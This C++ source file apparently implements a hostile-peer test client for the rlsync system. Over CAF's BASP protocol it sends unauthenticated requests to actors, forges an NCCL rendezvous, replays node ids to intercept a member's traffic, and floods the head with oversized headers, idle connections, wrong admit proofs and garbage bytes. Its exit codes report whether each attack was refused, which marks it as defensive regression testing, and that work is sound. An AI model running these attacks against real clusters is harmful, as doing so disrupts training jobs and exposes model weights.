// rlsync-hostile-peer: attacks a running rlsync head the way an outsider on
// its network could, speaking CAF 0.17.6's wire protocol (BASP) from raw
// sockets, with no cluster secret. One subcommand per attack; each prints
// what happened and exits
//   0  the attack was refused (the fixed behaviour),
//   1  it got through (the head answered, routed a member's traffic to us,
//      kept a connection it should have dropped ...),
//   2  usage error,
//   3  the target could not be reached (nothing was attacked).
// `garbage` exits 0 once its bytes are sent: whether the process behind the
// port survived is for the caller to check.
// Every connect, read and write has a deadline: the client never hangs.
#include "actors/interfaces.hpp"
#include "actors/system_config.hpp"
#include "runtime/base/printable.hpp"
#include "runtime/base/version.hpp"
#include "tests/hostile/basp_wire.hpp"
#include "tests/hostile/transport.hpp"

#include <CLI/CLI.hpp>
#include <caf/actor_system.hpp>
#include <caf/actor_system_config.hpp>
#include <caf/make_message.hpp>

#include <poll.h>
#include <sys/resource.h>
#include <sys/socket.h>

#include <algorithm>
#include <iostream>
#include <limits>
#include <map>
#include <random>
#include <thread>

namespace rlsync::hostile {
namespace {

using namespace std::chrono_literals;
using ms = std::chrono::milliseconds;

constexpr int refused = 0, got_through = 1, unreachable = 3;

/// The most this client reads in one reply (a weight bucket of a test model
/// is a few MB; a head that announces more is broken for our purposes).
constexpr std::size_t max_reply_bytes = 256u << 20;

/// Below any connection timeout a head would sensibly set.
constexpr ms heartbeat_interval{200};

struct common_options {
  std::string target;
  tls_options tls;
  int deadline_ms = 3000; ///< connect, TLS and BASP handshakes
};

/// A BASP conversation: connection, frame parser, the CAF system whose type
/// registry (rlsync's message types) serializes payloads.
struct session {
  caf::actor_system& sys;
  std::unique_ptr<connection> conn;
  frame_reader reader{max_reply_bytes};
  io_status last = io_status::ok;

  void reset() {
    conn.reset();
    reader = frame_reader{max_reply_bytes};
    last = io_status::ok;
  }

  time_point next_heartbeat = clock_type::now();

  /// The next frame by `deadline`, or nothing (then `last` says why). Sends
  /// BASP heartbeats meanwhile, as a CAF node does: a head with a connection
  /// timeout drops a silent peer (rlsync's: the cluster's heartbeat timeout).
  std::optional<frame> next(time_point deadline) {
    for (;;) {
      if (auto f = reader.next(sys))
        return f;
      if (reader.broken()) {
        last = io_status::failed;
        return std::nullopt;
      }
      if (clock_type::now() >= next_heartbeat) {
        header hb{message_type::heartbeat, 0, 0, 0, caf::invalid_actor_id, caf::invalid_actor_id};
        last = conn->write_all(encode_header(sys, hb), after(1000ms));
        if (last != io_status::ok)
          return std::nullopt;
        next_heartbeat = after(heartbeat_interval);
      }
      bytes in;
      last = conn->read_some(in, 1 << 20, std::min(deadline, next_heartbeat));
      if (last == io_status::timeout && clock_type::now() < deadline)
        continue;
      if (last != io_status::ok)
        return std::nullopt;
      reader.append(in.data(), in.size());
    }
  }
};

struct attack_context {
  caf::actor_system& sys;
  common_options opt;
  endpoint to;
  std::shared_ptr<SSL_CTX> tls;
};

/// Connects (TLS when asked). Sets `rc` to the exit code when it fails:
/// unreachable, or refused when TLS turned us away.
std::unique_ptr<connection> connect_or_report(attack_context& cx, const char* attack, int& rc) {
  auto o = open_connection(cx.to, cx.tls.get(), after(ms(cx.opt.deadline_ms)));
  if (o.status == open_status::ok)
    return std::move(o.conn);
  if (o.status == open_status::tls_refused) {
    std::cout << attack << ": refused: " << printable(o.problem) << "\n";
    rc = refused;
  } else {
    std::cout << attack << ": cannot reach " << to_string(cx.to) << ": " << o.problem << "\n";
    rc = unreachable;
  }
  return nullptr;
}

/// Connects and completes BASP's handshake as node `self`. Nothing, with
/// `rc` set, when the head refused or could not be reached.
std::optional<server_hello> handshake(attack_context& cx, session& s, const char* attack, const caf::node_id& self,
                                      int& rc) {
  s.conn = connect_or_report(cx, attack, rc);
  if (!s.conn)
    return std::nullopt;
  auto deadline = after(ms(cx.opt.deadline_ms));
  auto f = s.next(deadline);
  if (!f) {
    std::cout << attack << ": refused: no server handshake ("
              << (s.reader.broken() ? s.reader.problem() : to_string(s.last)) << ")\n";
    rc = refused;
    return std::nullopt;
  }
  std::string problem;
  auto hello = read_server_hello(cx.sys, *f, problem);
  if (!hello) {
    std::cout << attack << ": refused: " << printable(problem) << "\n";
    rc = refused;
    return std::nullopt;
  }
  auto st = s.conn->write_all(client_handshake(cx.sys, self, true), deadline);
  if (st != io_status::ok) {
    std::cout << attack << ": refused: sending the client handshake: " << to_string(st) << "\n";
    rc = refused;
    return std::nullopt;
  }
  std::cout << attack << ": handshake done as " << to_string(self) << " with " << to_string(hello->node)
            << " (published actor " << hello->published << ")\n";
  return hello;
}

// -- direct ---------------------------------------------------------------------

struct direct_options {
  caf::actor_id max_id = 64;
  std::vector<std::string> deregister;
  int reply_wait_ms = 3000;
  bool read_only = false;
};

struct probe {
  std::string label;
  caf::message content;
};

struct outcome {
  caf::actor_id actor = 0;
  std::string label;
  std::optional<reply> answer; ///< nothing: no reply by the deadline
};

/// Sends every probe to every actor in `ids` as requests, then collects
/// replies until all came, the wait ran out or the head closed the
/// connection; returns false in the last case.
bool send_round(attack_context& cx, session& s, const std::vector<probe>& probes, const std::vector<caf::actor_id>& ids,
                int reply_wait_ms, std::uint64_t& next_request, std::map<std::uint64_t, outcome>& out) {
  std::map<std::uint64_t, outcome> round;
  bool sent_all = true;
  for (auto id : ids) {
    for (auto& p : probes) {
      auto req = next_request++;
      auto st = s.conn->write_all(direct_request(cx.sys, 1, id, req, p.content), after(ms(cx.opt.deadline_ms)));
      if (st != io_status::ok) {
        sent_all = false;
        break;
      }
      round[req] = outcome{id, p.label, std::nullopt};
    }
    if (!sent_all)
      break;
  }
  auto deadline = after(ms(reply_wait_ms));
  std::size_t pending = round.size();
  while (pending > 0) {
    auto f = s.next(deadline);
    if (!f)
      break;
    if (auto r = read_reply(cx.sys, *f)) {
      auto it = round.find(r->request);
      if (it != round.end() && !it->second.answer) {
        it->second.answer = std::move(*r);
        --pending;
      }
    }
  }
  out.insert(round.begin(), round.end());
  return sent_all && (pending == 0 || s.last == io_status::timeout);
}

/// Runs one round over `ids`. Some actors (CAF's own brokers) drop the
/// connection on a message they do not expect; then the first id left
/// without a reply is taken as the one that did, its requests are marked
/// so, and the ids after it are tried again on a fresh connection.
bool sweep(attack_context& cx, session& s, const std::vector<probe>& probes, std::vector<caf::actor_id> ids,
           int reply_wait_ms, std::uint64_t& next_request, std::map<std::uint64_t, outcome>& results,
           std::set<caf::actor_id>& droppers) {
  for (int reconnects = 0; !ids.empty(); ++reconnects) {
    std::map<std::uint64_t, outcome> round;
    if (send_round(cx, s, probes, ids, reply_wait_ms, next_request, round)) {
      results.insert(round.begin(), round.end());
      return true;
    }
    std::set<caf::actor_id> unanswered;
    for (auto& [req, o] : round)
      if (!o.answer)
        unanswered.insert(o.actor);
    auto culprit = unanswered.empty() ? ids.front() : *unanswered.begin();
    droppers.insert(culprit);
    std::vector<caf::actor_id> rest;
    for (auto id : ids)
      if (id > culprit)
        rest.push_back(id);
    for (auto& [req, o] : round)
      if (o.answer || o.actor == culprit)
        results.insert({req, o});
    if (reconnects == 16 || rest.empty()) {
      if (!rest.empty())
        std::cout << "direct: the head dropped the connection 16 times; ids from " << rest.front() << " untried\n";
      return false;
    }
    std::cout << "direct: the connection ended (" << (s.reader.broken() ? s.reader.problem() : to_string(s.last))
              << ") after a message to actor " << culprit
              << "; reconnecting for ids " << rest.front() << ".." << rest.back() << "\n";
    int rc = refused;
    s.reset();
    if (!handshake(cx, s, "direct", fresh_node_id(), rc))
      return false;
    ids = std::move(rest);
  }
  return true;
}

/// A rendezvous as the coordinator would send it, naming trainer rank 0 and
/// worker 0 of every likely engine, with a made-up id.
nccl_rendezvous_msg forged_rendezvous() {
  nccl_rendezvous_msg m;
  m.epoch = std::numeric_limits<std::uint64_t>::max(); // newer than anything held
  m.id.assign(128, 0x5a);
  m.members.push_back(nccl_member{true, {}, 0});
  for (const char* engine : {"rollout-a", "rollout-b", "rollout-0", "rollout-1"})
    m.members.push_back(nccl_member{false, engine, 0});
  return m;
}

int run_direct(attack_context& cx, const direct_options& d) {
  session s{cx.sys, nullptr};
  int rc = refused;
  if (!handshake(cx, s, "direct", fresh_node_id(), rc))
    return rc;
  // Reads first; what the trainer says its version is picks the bucket to pull.
  std::vector<probe> reads = {
    {"status", caf::make_message(status_atom_v)},
    {"heartbeat", caf::make_message(heartbeat_atom_v, heartbeat{"hostile-peer", 1})},
    {"version", caf::make_message(version_atom_v)},
    {"meta", caf::make_message(meta_atom_v)},
    {"digest", caf::make_message(digest_atom_v)},
  };
  std::vector<caf::actor_id> ids;
  for (caf::actor_id id = 1; id <= d.max_id; ++id)
    ids.push_back(id);
  std::map<std::uint64_t, outcome> results;
  std::set<caf::actor_id> droppers;
  std::uint64_t next_request = 1;
  sweep(cx, s, reads, ids, d.reply_wait_ms, next_request, results, droppers);
  // The trainer keeps only its latest versions: ask again right before pulling.
  auto latest_version = [](const std::map<std::uint64_t, outcome>& rs, std::set<caf::actor_id>* holders) {
    std::uint64_t v = 0;
    for (auto& [req, o] : rs)
      if (o.answer && o.answer->kind == reply_kind::answered && o.answer->content.match_elements<version_info>()) {
        v = std::max(v, o.answer->content.get_as<version_info>(0).version);
        if (holders)
          holders->insert(o.actor);
      }
    return v;
  };
  std::set<caf::actor_id> trainers;
  std::uint64_t version = std::max<std::uint64_t>(1, latest_version(results, &trainers));
  if (!d.read_only) {
    if (!trainers.empty() && s.conn && s.last != io_status::closed && s.last != io_status::failed) {
      std::map<std::uint64_t, outcome> again;
      send_round(cx, s, {{"version", caf::make_message(version_atom_v)}}, {trainers.begin(), trainers.end()}, 1000,
                 next_request, again);
      version = std::max(version, latest_version(again, nullptr));
    }
    std::vector<probe> writes = {
      {"pull v" + std::to_string(version) + " group 0",
       caf::make_message(pull_atom_v, version, std::uint32_t{0})},
      {"freeze", caf::make_message(freeze_atom_v)},
      // NCCL's rendezvous is the coordinator's alone: a stranger gets no
      // unique id (its bootstrap address and magic) and joins nobody.
      {"nccl id", caf::make_message(nccl_id_atom_v)},
      {"nccl join", caf::make_message(nccl_join_atom_v, forged_rendezvous())},
      // ... and nobody else may say a member died (it would abort every wait).
      {"nccl dead", caf::make_message(nccl_dead_atom_v, std::uint64_t{1}, std::string("engine x"))},
    };
    for (auto& name : d.deregister)
      writes.push_back({"deregister " + name, caf::make_message(deregister_atom_v, name)});
    if (!s.conn || s.last == io_status::closed || s.last == io_status::failed) {
      int rc = refused;
      s.reset();
      if (!handshake(cx, s, "direct", fresh_node_id(), rc))
        return rc;
    }
    sweep(cx, s, writes, ids, d.reply_wait_ms, next_request, results, droppers);
  }
  // One line per actor that did anything but bounce (an unknown id answers
  // with an error from CAF itself: those are summed up, not listed).
  std::size_t answered = 0, errors = 0, silent = 0;
  std::set<caf::actor_id> reached;
  for (auto& [req, o] : results) {
    if (!o.answer && droppers.count(o.actor)) {
      std::cout << "  actor " << o.actor << " " << o.label << ": the head closed the connection\n";
    } else if (!o.answer) {
      ++silent;
      std::cout << "  actor " << o.actor << " " << o.label << ": no reply\n";
    } else if (o.answer->kind == reply_kind::error) {
      ++errors;
      if (o.answer->text.find("request_receiver_down") == std::string::npos)
        std::cout << "  actor " << o.actor << " " << o.label << ": refused: " << o.answer->text << "\n";
    } else {
      ++answered;
      reached.insert(o.actor);
      std::cout << "  actor " << o.actor << " " << o.label << ": ANSWERED: " << o.answer->text << "\n";
    }
  }
  std::cout << "direct: " << results.size() << " requests to actor ids 1.." << d.max_id << ": " << answered
            << " answered, " << errors << " errors, " << silent << " without reply; " << droppers.size()
            << " actors closed the connection\n";
  if (answered == 0) {
    std::cout << "direct: refused: no actor answered an unadmitted node\n";
    return refused;
  }
  std::cout << "direct: GOT THROUGH: " << reached.size() << " actors answered an unadmitted node (ids";
  for (auto id : reached)
    std::cout << " " << id;
  std::cout << ")\n";
  return got_through;
}

// -- routed ------------------------------------------------------------------------

struct routed_options {
  std::string node;  ///< whose actors are asked: a member's (a trainer rank's node)
  std::string claim; ///< the source node claimed; empty: this client's own
  caf::actor_id max_id = 32;
  std::string engine = "rollout-a"; ///< whose UCX tickets, cuda_ipc slot and nccl sends are asked for
  int reply_wait_ms = 3000;
};

/// Requests to the actors of another node, sent to the head for it to
/// forward (CAF routes by node id, admitted or not): UCX tickets, cuda_ipc
/// and nccl pulls, weights' metadata, the version, freeze. Refused when no actor answers.
int run_routed(attack_context& cx, const routed_options& o) {
  caf::node_id dest;
  if (auto err = caf::parse(o.node, dest); err || !dest) {
    std::cerr << "routed: '" << printable(o.node) << "' is not a CAF node id (HOSTHASH#PID)\n";
    return 2;
  }
  auto self = fresh_node_id();
  auto claimed = self;
  if (!o.claim.empty())
    if (auto err = caf::parse(o.claim, claimed); err || !claimed) {
      std::cerr << "routed: '" << printable(o.claim) << "' is not a CAF node id (HOSTHASH#PID)\n";
      return 2;
    }
  session s{cx.sys, nullptr};
  int rc = refused;
  if (!handshake(cx, s, "routed", self, rc))
    return rc;
  std::vector<probe> probes = {
    {"ucx ticket for " + o.engine, caf::make_message(ucx_ticket_atom_v, o.engine, std::int32_t{0})},
    {"cuda_ipc pull for " + o.engine, caf::make_message(ipc_pull_atom_v, ipc_pull{o.engine, 0, 1, 0, 0, 0})},
    {"nccl pull for " + o.engine, caf::make_message(nccl_pull_atom_v, nccl_pull{o.engine, 0, 1, 0, 1, 1000, 0})},
    {"nccl plan for " + o.engine, caf::make_message(nccl_plan_atom_v, nccl_plan{o.engine, 0, 1, {1, 2, 3}})},
    {"nccl broadcast for " + o.engine,
     caf::make_message(nccl_broadcast_atom_v, nccl_pull{o.engine, 0, 1, 0, 1, 1000, 0})},
    {"meta", caf::make_message(meta_atom_v)},
    {"version", caf::make_message(version_atom_v)},
    {"freeze", caf::make_message(freeze_atom_v)},
  };
  std::map<std::uint64_t, outcome> sent;
  std::uint64_t next_request = 1;
  for (caf::actor_id id = 1; id <= o.max_id; ++id)
    for (auto& p : probes) {
      auto req = next_request++;
      auto frame_bytes = routed_request(cx.sys, claimed, dest, 1, id, req, p.content);
      if (s.conn->write_all(frame_bytes, after(ms(cx.opt.deadline_ms))) != io_status::ok) {
        std::cout << "routed: the head closed the connection after " << sent.size() << " requests\n";
        id = o.max_id; // stop sending; report what came back
        break;
      }
      sent[req] = outcome{id, p.label, std::nullopt};
    }
  auto deadline = after(ms(o.reply_wait_ms));
  std::size_t pending = sent.size();
  while (pending > 0) {
    auto f = s.next(deadline);
    if (!f)
      break;
    if (auto r = read_reply(cx.sys, *f)) {
      auto it = sent.find(r->request);
      if (it != sent.end() && !it->second.answer) {
        it->second.answer = std::move(*r);
        --pending;
      }
    }
  }
  std::size_t answered = 0, errors = 0;
  for (auto& [req, out] : sent) {
    if (!out.answer)
      continue;
    if (out.answer->kind == reply_kind::error) {
      ++errors;
      if (out.answer->text.find("request_receiver_down") == std::string::npos)
        std::cout << "  actor " << out.actor << " " << out.label << ": refused: " << out.answer->text << "\n";
    } else {
      ++answered;
      std::cout << "  actor " << out.actor << " " << out.label << ": ANSWERED: " << out.answer->text << "\n";
    }
  }
  std::cout << "routed: " << sent.size() << " requests to actor ids 1.." << o.max_id << " of " << to_string(dest)
            << " as " << to_string(claimed) << ": " << answered << " answered, " << errors << " errors, " << pending
            << " without reply\n";
  if (answered == 0) {
    std::cout << "routed: refused: no actor of that node answered\n";
    return refused;
  }
  std::cout << "routed: GOT THROUGH: actors of another node answered an unadmitted node\n";
  return got_through;
}

// -- replay-node-id --------------------------------------------------------------

int run_replay(attack_context& cx, const std::string& id_text, int listen_ms) {
  caf::node_id claimed;
  if (auto err = caf::parse(id_text, claimed); err || !claimed) {
    std::cerr << "replay-node-id: '" << printable(id_text) << "' is not a CAF node id (HOSTHASH#PID)\n";
    return 2;
  }
  session s{cx.sys, nullptr};
  int rc = refused;
  if (!handshake(cx, s, "replay-node-id", claimed, rc))
    return rc;
  // Whatever the head now sends for the claimed node's actors arrives here.
  std::size_t stolen = 0;
  auto deadline = after(ms(listen_ms));
  while (auto f = s.next(deadline)) {
    if (!meant_for_member(f->hdr))
      continue;
    if (++stolen <= 5)
      std::cout << "  got a " << caf::io::basp::to_string(f->hdr.operation) << " for actor " << f->hdr.dest_actor
                << " of " << to_string(claimed) << " (" << f->payload.size() << " bytes)\n";
  }
  bool closed = s.last == io_status::closed || s.last == io_status::failed;
  std::cout << "replay-node-id: " << stolen << " messages meant for " << to_string(claimed) << " arrived in "
            << listen_ms << " ms" << (closed ? "; the head closed the connection" : "") << "\n";
  if (stolen > 0) {
    std::cout << "replay-node-id: GOT THROUGH: the head routed a member's traffic to a replayed node id\n";
    return got_through;
  }
  std::cout << "replay-node-id: refused: nothing meant for the member reached us\n";
  return refused;
}

// -- huge-header -------------------------------------------------------------------

/// Waits until every connection closed or the deadline passed, reading and
/// dropping what arrives; returns how many the peer closed.
std::size_t hold(std::vector<std::unique_ptr<connection>>& conns, time_point deadline) {
  std::vector<bool> closed(conns.size(), false);
  std::size_t n_closed = 0;
  while (n_closed < conns.size() && clock_type::now() < deadline) {
    std::vector<pollfd> fds;
    std::vector<std::size_t> index;
    for (std::size_t i = 0; i < conns.size(); ++i)
      if (!closed[i]) {
        fds.push_back({conns[i]->fd(), POLLIN, 0});
        index.push_back(i);
      }
    ::poll(fds.data(), fds.size(), 100);
    for (std::size_t k = 0; k < fds.size(); ++k) {
      if (fds[k].revents == 0)
        continue;
      auto i = index[k];
      bytes sink;
      auto st = conns[i]->read_some(sink, 1 << 16, clock_type::now());
      if (st == io_status::closed || st == io_status::failed) {
        closed[i] = true;
        ++n_closed;
      }
    }
  }
  return n_closed;
}

int run_huge_header(attack_context& cx, std::uint32_t announced, int connections, int hold_ms) {
  std::vector<std::unique_ptr<connection>> conns;
  int tls_refused = 0;
  for (int i = 0; i < connections; ++i) {
    int rc = refused;
    auto c = connect_or_report(cx, "huge-header", rc);
    if (!c) {
      if (rc == unreachable)
        return unreachable;
      ++tls_refused;
      continue;
    }
    // A valid client-handshake header (source and destination 0) announcing
    // `announced` payload bytes, which never come.
    header hdr{message_type::client_handshake, 0, announced, 0, 0, 0};
    auto st = c->write_all(encode_header(cx.sys, hdr), after(ms(cx.opt.deadline_ms)));
    if (st != io_status::ok) {
      std::cout << "huge-header: connection " << i << ": sending the header: " << to_string(st) << "\n";
      continue;
    }
    conns.push_back(std::move(c));
  }
  std::cout << "huge-header: " << conns.size() << " connections each announced " << announced
            << " payload bytes; holding them " << hold_ms << " ms" << std::endl;
  auto t0 = clock_type::now();
  auto closed = hold(conns, after(ms(hold_ms)));
  auto open = conns.size() - closed;
  std::cout << "huge-header: " << tls_refused << " refused by TLS, " << closed << " closed by the head, " << open
            << " still open after "
            << std::chrono::duration_cast<ms>(clock_type::now() - t0).count() << " ms\n";
  if (open == 0) {
    std::cout << "huge-header: refused\n";
    return refused;
  }
  std::cout << "huge-header: GOT THROUGH: the head kept waiting for the announced payload\n";
  return got_through;
}

// -- idle ------------------------------------------------------------------------------

/// Room for `n` descriptors more than the few this process holds.
void raise_descriptor_limit(std::size_t n) {
  rlimit lim{};
  if (getrlimit(RLIMIT_NOFILE, &lim) != 0)
    return;
  rlim_t want = n + 64;
  if (lim.rlim_cur < want) {
    lim.rlim_cur = std::min(want, lim.rlim_max);
    setrlimit(RLIMIT_NOFILE, &lim);
  }
}

int run_idle(attack_context& cx, int connections, int seconds) {
  raise_descriptor_limit(static_cast<std::size_t>(connections));
  std::vector<std::unique_ptr<connection>> conns;
  int not_accepted = 0;
  for (int i = 0; i < connections; ++i) {
    // Plain TCP even against TLS: these connections never start any handshake.
    auto o = open_connection(cx.to, nullptr, after(1000ms));
    if (o.status == open_status::ok)
      conns.push_back(std::move(o.conn));
    else
      ++not_accepted;
  }
  if (conns.empty() && not_accepted == connections) {
    // Nothing connected at all: the head is not there (or caps at zero).
    std::cout << "idle: no connection of " << connections << " was accepted\n";
  }
  std::cout << "idle: " << conns.size() << " of " << connections << " connections open, never handshaking; holding "
            << seconds << " s" << std::endl;
  auto closed = hold(conns, after(std::chrono::seconds(seconds)));
  auto open = conns.size() - closed;
  std::cout << "idle: after " << seconds << " s: " << not_accepted << " not accepted, " << closed
            << " closed by the head, " << open << " still open\n";
  if (open == 0) {
    std::cout << "idle: refused\n";
    return refused;
  }
  std::cout << "idle: GOT THROUGH: the head kept " << open << " connections that never handshook\n";
  return got_through;
}

// -- admit-flood -------------------------------------------------------------------

int run_admit_flood(attack_context& cx, int seconds, int rate, const std::vector<std::string>& names) {
  session s{cx.sys, nullptr};
  int rc = refused;
  auto hello = handshake(cx, s, "admit-flood", fresh_node_id(), rc);
  if (!hello)
    return rc;
  if (hello->published == caf::invalid_actor_id) {
    std::cout << "admit-flood: the head publishes no actor on this port\n";
    return unreachable;
  }
  const std::string wrong_proof(64, '0');
  const std::string nonce(64, '0'); // well formed: the admit reaches the proof check
  // Odd request ids are hellos, even ones admits: a reply says which it answers.
  std::uint64_t next_request = 1;
  std::size_t sent = 0, challenges = 0, admits_refused = 0, hellos_refused = 0, admitted = 0, unmatched = 0;
  auto collect = [&](time_point deadline) {
    while (auto f = s.next(deadline)) {
      auto r = read_reply(cx.sys, *f);
      if (!r)
        continue;
      bool is_admit = r->request % 2 == 0;
      if (r->kind == reply_kind::error && r->text.find("unexpected_message") != std::string::npos)
        ++unmatched; // sent in a shape the gatekeeper does not take: this flood tests nothing
      else if (r->kind == reply_kind::error)
        ++(is_admit ? admits_refused : hellos_refused);
      else if (is_admit)
        ++admitted; // a wrong proof must never be accepted
      else
        ++challenges;
    }
  };
  auto end = after(std::chrono::seconds(seconds));
  auto per_tick = std::max(1, rate / 100); // 10 ms ticks
  std::size_t name_index = 0;
  bool head_stopped_reading = false;
  while (clock_type::now() < end && s.last != io_status::closed && s.last != io_status::failed) {
    auto tick_end = after(10ms);
    for (int k = 0; k < per_tick; k += 2) {
      const auto& name = names[name_index++ % names.size()];
      auto h = direct_request(cx.sys, 1, hello->published, next_request,
                              caf::make_message(hello_atom_v, name, wire_fingerprint()));
      auto a = direct_request(cx.sys, 1, hello->published, next_request + 1,
                              caf::make_message(admit_atom_v, name, wrong_proof, nonce));
      next_request += 2;
      auto st = s.conn->write_all(h, tick_end);
      if (st == io_status::ok)
        st = s.conn->write_all(a, std::max(tick_end, after(1ms)));
      if (st == io_status::timeout) {
        head_stopped_reading = true; // its socket buffer is full: it reads slower than we send
        break;
      }
      if (st != io_status::ok) {
        s.last = st;
        break;
      }
      sent += 2;
    }
    collect(tick_end);
    if (s.last == io_status::timeout)
      s.last = io_status::ok;
  }
  collect(after(1000ms)); // replies still in flight
  std::cout << "admit-flood: " << sent << " requests in " << seconds << " s (" << names.size()
            << " node names): " << challenges << " challenges, " << hellos_refused << " hellos refused, "
            << admits_refused << " wrong proofs refused, " << admitted << " wrong proofs ACCEPTED, " << unmatched
            << " messages the gatekeeper does not take"
            << (head_stopped_reading ? "; the head fell behind reading" : "")
            << (s.last == io_status::closed ? "; the head closed the connection" : "") << "\n";
  if (admitted > 0) {
    std::cout << "admit-flood: GOT THROUGH: a wrong proof was accepted\n";
    return got_through;
  }
  if (unmatched > 0) {
    std::cout << "admit-flood: no admit reached the proof check (the flood's messages are out of date)\n";
    return unreachable;
  }
  std::cout << "admit-flood: every wrong proof refused\n";
  return refused;
}

// -- garbage ---------------------------------------------------------------------------

int run_garbage(attack_context& cx, int wait_ms) {
  struct shot {
    std::string name;
    bytes data;
  };
  std::mt19937 rng(std::random_device{}());
  bytes random(64 * 1024);
  for (auto& b : random)
    b = static_cast<char>(rng());
  std::vector<shot> shots = {{"64 KiB of random bytes", random},
                             {"16 x 0xFF", bytes(16, static_cast<char>(0xFF))},
                             {"connect and close", {}}};
  for (auto& sh : shots) {
    // Raw TCP: garbage is not wrapped in TLS (a TLS listener sees a bad record).
    auto o = open_connection(cx.to, nullptr, after(ms(cx.opt.deadline_ms)));
    if (o.status != open_status::ok) {
      std::cout << "garbage " << to_string(cx.to) << ": " << sh.name << ": cannot connect: " << o.problem << "\n";
      return unreachable;
    }
    std::string what = "sent";
    if (!sh.data.empty()) {
      auto st = o.conn->write_all(sh.data, after(ms(cx.opt.deadline_ms)));
      if (st != io_status::ok)
        what = std::string("sending: ") + to_string(st);
      std::vector<std::unique_ptr<connection>> one;
      one.push_back(std::move(o.conn));
      auto t0 = clock_type::now();
      auto closed = hold(one, after(ms(wait_ms)));
      what += closed ? "; closed by the peer after "
                           + std::to_string(std::chrono::duration_cast<ms>(clock_type::now() - t0).count()) + " ms"
                     : "; still open after " + std::to_string(wait_ms) + " ms";
    }
    std::cout << "garbage " << to_string(cx.to) << ": " << sh.name << ": " << what << "\n";
  }
  return refused;
}

} // namespace
} // namespace rlsync::hostile

int main(int argc, char** argv) {
  using namespace rlsync::hostile;
  CLI::App app("Attacks a running rlsync head over CAF 0.17.6's wire protocol, without the cluster secret.\n"
               "Exit status: 0 refused, 1 got through, 2 usage error, 3 target not reachable.",
               "rlsync-hostile-peer");
  app.require_subcommand(1);
  common_options opt;
  auto add_common = [&](CLI::App* sub, bool tls) {
    sub->add_option("target", opt.target, "the port to attack")->type_name("HOST:PORT")->required();
    sub->add_option("--deadline-ms", opt.deadline_ms, "connect and handshake deadline")->check(CLI::Range(1, 600000));
    if (tls) {
      sub->add_option("--tls-ca", opt.tls.ca, "CA to verify the head with (PEM)");
      sub->add_option("--tls-cert", opt.tls.cert, "client certificate (PEM)");
      sub->add_option("--tls-key", opt.tls.key, "client key (PEM)");
      sub->add_flag("--tls-anonymous", opt.tls.anonymous, "TLS without a certificate (anonymous ECDH)");
    }
  };
  direct_options direct;
  auto* s_direct = app.add_subcommand("direct", "handshake as a fresh node and send requests to actor ids 1..N");
  add_common(s_direct, true);
  s_direct->add_option("--max-id", direct.max_id, "highest actor id tried")->check(CLI::Range(1, 100000));
  s_direct->add_option("--deregister", direct.deregister, "also ask every actor to deregister this engine")
    ->type_name("NAME");
  s_direct->add_option("--reply-wait-ms", direct.reply_wait_ms, "wait for replies to each round")
    ->check(CLI::Range(1, 600000));
  s_direct->add_flag("--read-only", direct.read_only, "skip pull, freeze and deregister");

  routed_options routed;
  auto* s_routed = app.add_subcommand("routed", "through the head, requests to the actors of another node (a "
                                              "trainer rank's): UCX tickets, meta, version, freeze");
  add_common(s_routed, true);
  s_routed->add_option("node", routed.node, "the node whose actors are asked (HOSTHASH#PID)")->required();
  s_routed->add_option("--claim-node", routed.claim, "the source node id claimed (default: this client's)");
  s_routed->add_option("--max-id", routed.max_id, "highest actor id tried")->check(CLI::Range(1, 100000));
  s_routed->add_option("--engine", routed.engine, "the engine whose UCX tickets are asked for");
  s_routed->add_option("--reply-wait-ms", routed.reply_wait_ms, "wait for replies")->check(CLI::Range(1, 600000));

  std::string node_id;
  int listen_ms = 3000;
  auto* s_replay = app.add_subcommand("replay-node-id", "handshake claiming a member's node id and listen");
  add_common(s_replay, true);
  s_replay->add_option("id", node_id, "the member's node id (HOSTHASH#PID, from the head's log)")->required();
  s_replay->add_option("--listen-ms", listen_ms, "how long to listen")->check(CLI::Range(1, 600000));

  std::uint32_t announced = 1u << 30;
  int connections = 1, hold_ms = 4000;
  auto* s_huge = app.add_subcommand("huge-header", "a BASP header announcing a huge payload, then nothing");
  add_common(s_huge, true);
  s_huge->add_option("--bytes", announced, "payload length announced (at most 2^32-1)");
  s_huge->add_option("--connections", connections, "how many connections do it")->check(CLI::Range(1, 64));
  s_huge->add_option("--hold-ms", hold_ms, "how long to keep them open")->check(CLI::Range(1, 600000));

  int idle_connections = 100, idle_seconds = 5;
  auto* s_idle = app.add_subcommand("idle", "connections that never handshake");
  add_common(s_idle, false);
  s_idle->add_option("--connections", idle_connections, "how many")->check(CLI::Range(1, 10000));
  s_idle->add_option("--seconds", idle_seconds, "how long to hold them")->check(CLI::Range(1, 3600));

  int flood_seconds = 5, flood_rate = 2000;
  std::vector<std::string> flood_names = {"engines-a", "engines-b"};
  auto* s_flood = app.add_subcommand("admit-flood", "hello/admit with wrong proofs, as fast as asked");
  add_common(s_flood, true);
  s_flood->add_option("--seconds", flood_seconds, "how long")->check(CLI::Range(1, 3600));
  s_flood->add_option("--rate", flood_rate, "requests per second")->check(CLI::Range(2, 1000000));
  s_flood->add_option("--names", flood_names, "node names to ask challenges for (a legitimate node's burns its)")
    ->delimiter(',');

  int garbage_wait_ms = 1000;
  auto* s_garbage = app.add_subcommand("garbage", "random bytes, 16 x 0xFF, connect-and-close (raw TCP); exits 0 once "
                                                "sent: whether the target survived is the caller's check");
  add_common(s_garbage, false);
  s_garbage->add_option("--wait-ms", garbage_wait_ms, "how long to watch each connection")
    ->check(CLI::Range(1, 600000));

  try {
    app.parse(argc, argv);
  } catch (const CLI::ParseError& e) {
    return app.exit(e) == 0 ? 0 : 2;
  }
  try {
    caf::actor_system_config cfg;
    rlsync::register_rlsync_types(cfg);
    cfg.set("logger.console", caf::atom("none"));
    caf::actor_system sys{cfg};
    attack_context cx{sys, opt, parse_endpoint(opt.target), nullptr};
    if (opt.tls.enabled())
      cx.tls = make_tls_context(opt.tls);
    if (*s_direct)
      return run_direct(cx, direct);
    if (*s_routed)
      return run_routed(cx, routed);
    if (*s_replay)
      return run_replay(cx, node_id, listen_ms);
    if (*s_huge)
      return run_huge_header(cx, announced, connections, hold_ms);
    if (*s_idle)
      return run_idle(cx, idle_connections, idle_seconds);
    if (*s_flood)
      return run_admit_flood(cx, flood_seconds, flood_rate, flood_names);
    return run_garbage(cx, garbage_wait_ms);
  } catch (const std::invalid_argument& e) {
    std::cerr << "rlsync-hostile-peer: " << e.what() << "\n";
    return 2;
  } catch (const std::exception& e) {
    std::cerr << "rlsync-hostile-peer: " << e.what() << "\n";
    return unreachable;
  }
}
